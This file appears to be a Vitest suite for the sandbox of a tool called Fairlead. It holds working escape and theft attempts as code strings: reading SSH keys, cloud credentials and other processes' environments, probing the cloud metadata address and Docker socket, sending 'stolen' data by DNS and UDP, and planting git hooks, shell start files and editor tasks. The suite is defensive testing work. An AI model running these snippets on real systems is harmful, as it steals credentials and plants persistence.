import { readFile, rename, rm, symlink, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { hasBubblewrap, scaled } from "@fairlead/test-servers";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { type Attempt, escapeWorld, type Facts, needsRoot, testAttempts, type World } from "./escape-world.ts";

const canBox = hasBubblewrap("escapes of Node programs from their sandbox");

const preamble = (facts: Facts) => `
const { home, out, notes, victim, webPort, shared, state, mark } = ${JSON.stringify(facts)};
const read = (path) => fs.readFileSync(path, "latin1");
const shell = (line, env = process.env) => execFileSync("/bin/sh", ["-c", line], { env, stdio: ["ignore", "pipe", "ignore"] }).toString();
const answer = (socket, sent) => new Promise((done) => {
  let text = "";
  socket.setTimeout(5000, () => socket.destroy());
  socket.on("data", (data) => { text += data; });
  socket.on("error", (error) => done("failed: " + error.message));
  socket.on("close", () => done(text));
  if (sent) socket.write(sent);
});
const attempt = (work) => { try { return "escaped " + work(); } catch (error) { return "stopped " + error.code; } };`;

const uncommon = { uncertain: "systems differ in whether they allow it without a sandbox" };

/** Writes the mark to a path below `~/out`. */
const plant = (path: string) =>
  ({ plants: `out/${path}`, code: `fs.writeFileSync(out + "/${path}", mark)` }) satisfies Partial<Attempt>;

const attempts: readonly Attempt[] = [
  { does: "reads a private key", code: `return read(home + "/.ssh/id_ed25519")` },
  { does: "reads credentials of clouds", code: `return read(home + "/.config/gcloud/credentials.db")` },
  { does: "reads passwords for hosts", code: `return read(home + "/.netrc")` },
  { does: "reads the secrets of another project", code: `return read(home + "/project/.env")` },
  {
    does: "reads what another server keeps",
    code: `return read(state + "/sandboxes/other-12345678/home/.cache/kept")`,
  },
  { does: "reads Fairlead's token file", code: `return read(state + "/token")` },
  {
    does: "lists sockets of other servers' sandboxes",
    code: `return "escaped " + fs.readdirSync(state + "/sandboxes")`,
  },
  { does: "follows a link in a listed folder", code: `return read(notes + "/link/id_ed25519")` },
  { does: "climbs out of a listed folder", code: `return read(notes + "/sub/../../.ssh/id_ed25519")` },
  {
    does: "reads through a link of its own",
    code: `
    fs.rmSync(out + "/mine", { force: true });
    fs.symlinkSync(home + "/.ssh", out + "/mine");
    return read(out + "/mine/id_ed25519")`,
  },
  {
    does: "makes a hard link to a private key",
    code: `fs.linkSync(home + "/.ssh/id_ed25519", out + "/hard"); return read(out + "/hard")`,
  },
  {
    does: "moves a private key into a writable folder",
    code: `fs.renameSync(home + "/.netrc", out + "/netrc"); return read(out + "/netrc")`,
  },
  {
    does: "copies with a program of its own",
    code: `
    fs.copyFileSync("/bin/cat", out + "/own-cat");
    fs.chmodSync(out + "/own-cat", 0o755);
    return shell(out + "/own-cat " + home + "/.ssh/id_ed25519")`,
  },
  {
    does: "writes into a folder that is listed to read",
    plants: "notes/planted",
    code: `fs.writeFileSync(notes + "/planted", mark)`,
  },
  {
    does: "writes through a link into a folder that is listed to read",
    plants: "notes/linked",
    code: `
    fs.rmSync(out + "/notes", { force: true });
    fs.symlinkSync("../notes", out + "/notes");
    fs.writeFileSync(out + "/notes/linked", mark)`,
  },
  { does: "makes a listed folder writable", code: `fs.chmodSync(notes, 0o777); return "escaped"` },
  {
    does: "mounts a listed folder again",
    code: `shell("mount -o remount,rw,bind " + notes); return "escaped"`,
    ...uncommon,
  },
  { does: "reads the environment of another process", code: `return read("/proc/" + victim + "/environ")` },
  {
    does: "reads the command line of another process",
    code: `return read("/proc/" + victim + "/cmdline") && "escaped"`,
  },
  {
    does: "reads through the working folder of another process",
    code: `return fs.readdirSync("/proc/" + victim + "/cwd") && "escaped"`,
  },
  {
    does: "reads through the root of another process",
    code: `return read("/proc/" + victim + "/root" + home + "/.ssh/id_ed25519")`,
  },
  { does: "reads through its own root", code: `return read("/proc/self/root" + home + "/.ssh/id_ed25519")` },
  {
    does: "reads through the descriptors of its parent",
    code: `return read("/proc/" + process.ppid + "/root" + home + "/.ssh/id_ed25519")`,
  },
  { does: "sends a signal to another process", code: `process.kill(victim, "SIGWINCH"); return "escaped"` },
  { does: "opens the debugger of the host", code: `process.kill(${process.pid}, 0); return "escaped"` },
  {
    does: "changes the priority of another process",
    code: `require_os.setPriority(victim, 1); return "escaped"`.replace("require_os", `process.getBuiltinModule("os")`),
  },
  {
    does: "enters the namespaces of another process",
    code: `return shell("nsenter -t " + victim + " -m cat " + home + "/.ssh/id_ed25519")`,
    ...uncommon,
  },
  { does: "makes namespaces", code: `return shell("unshare -Ur true && echo escaped")`, ...uncommon },
  {
    does: "finds variables of the host",
    code: `return JSON.stringify(process.env) + read("/proc/" + process.ppid + "/environ") + read("/proc/1/environ")`,
    ...uncommon,
  },
  {
    does: "finds arguments and files of the host in process 1",
    code: `
    const found = fs.readdirSync("/proc/1/fd").map((name) => { try { return fs.readlinkSync("/proc/1/fd/" + name) } catch { return "" } });
    return found.some((path) => path.startsWith("/") && !path.startsWith("/dev/")) ? "escaped " + found : "stopped"`,
    ...uncommon,
  },
  {
    does: "reaches a port of this machine by fetch",
    code: `return (await fetch("http://127.0.0.1:" + webPort)).text()`,
  },
  {
    does: "reaches a port of this machine by another name",
    code: `
    for (const name of ["localhost", "0.0.0.0", "127.1", "0x7f000001", "2130706433", "[::ffff:127.0.0.1]"]) {
      try { return await (await fetch("http://" + name + ":" + webPort)).text() } catch {}
    }`,
  },
  {
    does: "reaches a port of this machine below Node's own functions",
    code: `
    const { TCP, TCPConnectWrap } = process.binding("tcp_wrap");
    const { promise, resolve } = { ...(() => { let resolve; const promise = new Promise((r) => { resolve = r; }); return { promise, resolve }; })() };
    const wrap = new TCPConnectWrap();
    wrap.oncomplete = (status) => resolve(status === 0 ? "escaped" : "stopped " + status);
    const status = new TCP(0).connect(wrap, "127.0.0.1", webPort);
    return status === 0 ? promise : "stopped " + status`,
  },
  {
    does: "reaches a port of this machine from a program without its variables",
    code: `
    return execFileSync(process.execPath, ["-e", "require('http').get({ host: '127.0.0.1', port: " + webPort + " }, (answer) => answer.pipe(process.stdout))"], { env: {}, stdio: ["ignore", "pipe", "ignore"] }).toString()`,
  },
  {
    does: "reaches a port of this machine through the proxy",
    code: `
    const socket = fs.existsSync("/run/fairlead") ? net.connect("/run/fairlead/net.sock") : net.connect(webPort, "127.0.0.1");
    return answer(socket, "GET http://127.0.0.1:" + webPort + "/ HTTP/1.1\\r\\nHost: allowed.invalid\\r\\nConnection: close\\r\\n\\r\\n")`,
  },
  {
    does: "finds another request behind a refused one in the proxy",
    code: `
    const socket = fs.existsSync("/run/fairlead") ? net.connect("/run/fairlead/net.sock") : net.connect(webPort, "127.0.0.1");
    return answer(socket, ["GET http://allowed.invalid:443/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n", "GET http://127.0.0.1:" + webPort + "/ HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n"].join(""))`,
  },
  {
    does: "makes a server that this machine reaches",
    code: `
    const server = net.createServer().listen(0, "0.0.0.0");
    await new Promise((done) => server.once("listening", done));
    const others = Object.values(process.getBuiltinModule("os").networkInterfaces()).flat().filter(({ internal }) => !internal);
    server.close();
    return others.length > 0 ? "escaped" : "stopped"`,
    ...uncommon,
  },
  {
    does: "asks a name server",
    code: `
    const { Resolver } = process.getBuiltinModule("dns").promises;
    const resolver = new Resolver({ timeout: 500, tries: 1 });
    resolver.setServers(["8.8.8.8"]);
    return "escaped " + (await resolver.resolve4("stolen.example.com"))`,
    ...uncommon,
  },
  {
    does: "sends a datagram to this machine",
    code: `
    const socket = process.getBuiltinModule("dgram").createSocket("udp4");
    return new Promise((done) => socket.send("stolen", 53, "8.8.8.8", (error) => { socket.close(); done(error ? "stopped " + error.code : "escaped"); }))`,
    ...uncommon,
  },
  {
    does: "reaches the address of a cloud's credentials",
    code: `return (await fetch("http://169.254.169.254/latest/meta-data/", { signal: AbortSignal.timeout(2000) })).status + "escaped"`,
    ...uncommon,
  },
  {
    does: "reaches a socket in the home folder",
    code: `process.chdir(home); return answer(net.connect("agent.sock"))`,
  },
  { does: "reaches Fairlead's own socket", code: `process.chdir(state); return answer(net.connect("daemon.sock"))` },
  {
    does: "reaches Docker, the display or the session's bus",
    code: `
    const found = ["/run/docker.sock", "/var/run/docker.sock", "/tmp/.X11-unix", "/run/dbus", "/run/user", "/run/systemd"].filter((path) => fs.existsSync(path));
    return found.length > 0 ? "escaped " + found : "stopped"`,
    ...uncommon,
  },
  { does: "reads shared memory files of the host", code: `return read(shared)` },
  {
    does: "reads temporary files of the host",
    code: `return fs.readdirSync("/tmp").some((name) => !home.startsWith("/tmp/" + name)) ? "escaped" : "stopped"`,
    ...uncommon,
  },
  {
    does: "fills /dev/shm",
    code: `const { blocks, bsize } = fs.statfsSync("/dev/shm"); return blocks * bsize > 2 ** 30 ? "escaped" : "stopped"`,
    ...uncommon,
  },
  {
    does: "writes into /dev",
    code: `fs.mkdirSync("/dev/planted"); fs.rmdirSync("/dev/planted"); return "escaped"`,
    ...needsRoot,
  },
  {
    does: "reads the machine's users",
    code: `return /\\bdaemon\\b/.test(read("/etc/passwd")) ? "escaped" : "stopped"`,
    ...uncommon,
  },
  { does: "reads the machine's passwords", code: `return "escaped" + read("/etc/shadow").length`, ...needsRoot },
  {
    does: "reads the kernel's keys",
    code: `return read("/proc/keys").trim() === "" ? "stopped" : "escaped"`,
    ...uncommon,
  },
  {
    does: "opens the kernel's settings for writing",
    code: `fs.closeSync(fs.openSync("/proc/sys/kernel/core_pattern", "r+")); return "escaped"`,
    ...needsRoot,
  },
  {
    does: "opens all settings of the kernel for writing",
    code: `
    const open = [];
    const walk = (folder) => { for (const entry of fs.readdirSync(folder, { withFileTypes: true })) {
      const path = folder + "/" + entry.name;
      if (entry.isDirectory()) walk(path);
      else try { fs.closeSync(fs.openSync(path, "r+")); open.push(path); } catch {}
    } };
    walk("/proc/sys");
    return open.length > 0 ? "escaped " + open : "stopped"`,
    ...needsRoot,
  },
  {
    does: "opens what only root may read in /proc",
    code: `
    const open = fs.readdirSync("/proc").filter((name) => !/^\\d/.test(name)).filter((name) => {
      try {
        if (!fs.statSync("/proc/" + name).isFile() || (fs.statSync("/proc/" + name).mode & 4) !== 0) return false;
        fs.closeSync(fs.openSync("/proc/" + name, "r"));
        return true;
      } catch { return false }
    });
    return open.length > 0 ? "escaped " + open : "stopped"`,
    ...uncommon,
  },
  { does: "sees the kernel in /sys", code: `return "escaped " + fs.readdirSync("/sys/kernel")` },
  { does: "watches files of the home folder", code: `fs.watch(home + "/.ssh").close(); return "escaped"` },
  {
    does: "looks for free room for a core dump",
    code: `return shell("ulimit -c unlimited && ulimit -c").startsWith("unlimited") ? "escaped" : "stopped"`,
    ...uncommon,
  },
  {
    does: "raises the limit of processes",
    code: `return shell("(ulimit -p unlimited || ulimit -u unlimited) && echo escaped")`,
    ...uncommon,
  },
  {
    does: "replaces the program of the server",
    code: `fs.closeSync(fs.openSync(process.argv[1], "r+")); return "escaped"`,
  },
  { does: "replaces Node", code: `fs.accessSync(process.execPath, fs.constants.W_OK); return "escaped"`, ...needsRoot },
  { does: "plants a start file of the shell", ...plant(".bashrc") },
  {
    does: "plants a start file of the shell by renaming",
    plants: "out/.bashrc",
    code: `fs.writeFileSync(out + "/new", mark); fs.renameSync(out + "/new", out + "/.bashrc")`,
  },
  {
    does: "plants a start file of the shell after removing the old one",
    plants: "out/.envrc",
    code: `fs.rmSync(out + "/.envrc"); fs.writeFileSync(out + "/.envrc", mark)`,
  },
  { does: "plants variables", ...plant(".env") },
  { does: "plants a task of VS Code", ...plant(".vscode/tasks.json") },
  { does: "plants a new file beside the tasks of VS Code", ...plant(".vscode/settings.json") },
  { does: "plants a server of other clients", ...plant(".mcp.json") },
  { does: "plants a hook of git", ...plant(".git/hooks/pre-commit") },
  { does: "plants a program in the configuration of git", ...plant(".git/config") },
  {
    does: "plants a folder of git in place of the old one",
    plants: "out/.git/config",
    code: `
    fs.renameSync(out + "/.git", out + "/git-before");
    fs.mkdirSync(out + "/.git");
    fs.writeFileSync(out + "/.git/config", mark)`,
  },
  { does: "plants a common folder of git", ...plant(".git/commondir") },
  {
    does: "plants the configuration of git in a project below",
    plants: "out/nested/repo/.git/config",
    code: `
    fs.renameSync(out + "/nested", out + "/nested-before");
    fs.mkdirSync(out + "/nested/repo/.git", { recursive: true });
    fs.writeFileSync(out + "/nested/repo/.git/config", mark)`,
  },
  { does: "plants a hook of husky", ...plant(".husky/pre-commit") },
  {
    does: "plants a program of the project",
    plants: "out/node_modules/.bin/tool",
    code: `
    fs.renameSync(out + "/node_modules", out + "/modules-before");
    fs.mkdirSync(out + "/node_modules/.bin", { recursive: true });
    fs.writeFileSync(out + "/node_modules/.bin/tool", mark)`,
  },
  { does: "plants a program in a folder of PATH", ...plant("tools/bwrap") },
  { does: "plants settings of Fairlead", ...plant(".gemini/settings.json") },
  {
    does: "plants settings of Fairlead in a new folder",
    plants: "out/.gemini/settings.json",
    code: `
    fs.renameSync(out + "/.gemini", out + "/gemini-before");
    fs.mkdirSync(out + "/.gemini");
    fs.writeFileSync(out + "/.gemini/settings.json", mark)`,
  },
  {
    does: "plants a policy of Fairlead",
    plants: "out/.gemini/policies/all.toml",
    code: `fs.mkdirSync(out + "/.gemini/policies", { recursive: true }); fs.writeFileSync(out + "/.gemini/policies/all.toml", mark)`,
  },
  {
    does: "plants a file in Fairlead's folder",
    plants: ".fairlead/planted",
    code: `fs.writeFileSync(state + "/planted", mark)`,
  },
  {
    does: "has descriptors of the host",
    code: `
    const found = fs.readdirSync("/proc/self/fd").filter((fd) => Number(fd) > 2).map((fd) => { try { return fs.readlinkSync("/proc/self/fd/" + fd) } catch { return "" } });
    return found.some((path) => path.startsWith("/") && !/^\\/(?:dev|proc)\\//.test(path)) ? "escaped " + found : "stopped"`,
    ...uncommon,
  },
];

describe.runIf(canBox)("a Node program succeeds without a sandbox, and is stopped inside, when it", () => {
  let open: World;
  let boxed: World;
  beforeAll(async () => {
    open = await escapeWorld("node", false);
    boxed = await escapeWorld("node", true);
  });
  afterAll(async () => {
    await open[Symbol.asyncDispose]();
    await boxed[Symbol.asyncDispose]();
  });
  testAttempts(attempts, () => ({ open, boxed }), preamble);
});

describe.runIf(canBox)("a writable folder", () => {
  const start = (world: World) =>
    world
      .attempt({ does: "", code: `return fs.readFileSync(home + "/.ssh/id_ed25519", "utf8")` }, preamble)
      .catch((error: unknown) => ({ escaped: false, text: String(error) }));

  test("with a planted link in place of a closed folder is refused at the next start", async () => {
    await using world = await escapeWorld("node", true);
    await world.host.stop(["s"]);
    await rm(join(world.facts.out, ".vscode"), { recursive: true });
    await symlink("..", join(world.facts.out, ".vscode"));
    expect(await start(world)).toEqual({
      escaped: false,
      text: expect.stringContaining("out/.vscode in it is a link, which no sandbox can protect"),
    });
  });

  test("whose closed folder is replaced again and again while sandboxes are made shows nothing else", async () => {
    await using world = await escapeWorld("node", true);
    const [folder, kept] = [join(world.facts.out, ".vscode"), join(world.facts.out, "kept")];
    const over = new AbortController();
    const swapping = (async () => {
      while (!over.signal.aborted) {
        await rename(folder, kept);
        // Meanwhile bubblewrap may have made a folder to mount on.
        await symlink("..", folder).catch(() => {});
        await rm(folder, { recursive: true, force: true });
        await rename(kept, folder);
        await new Promise(setImmediate);
      }
    })();
    const seen = [];
    for (let run = 0; run < scaled(50, 5); run++) {
      await world.host.stop(["s"]);
      seen.push((await start(world)).escaped);
    }
    over.abort();
    await swapping;
    expect(seen).not.toContain(true);
  });

  test("of Fairlead's settings cannot be listed", async () => {
    await using world = await escapeWorld("node", true);
    await world.host.stop(["s"]);
    const file = join(world.home, ".gemini/settings.json");
    const settings = JSON.parse(await readFile(file, "utf8"));
    settings.fairlead.servers.s.sandbox.write = ["~/.gemini"];
    await writeFile(file, JSON.stringify(settings));
    await world.host.reload();
    expect((await start(world)).text).toMatch(/\.gemini is listed, but it decides what Fairlead runs/);
  });
});
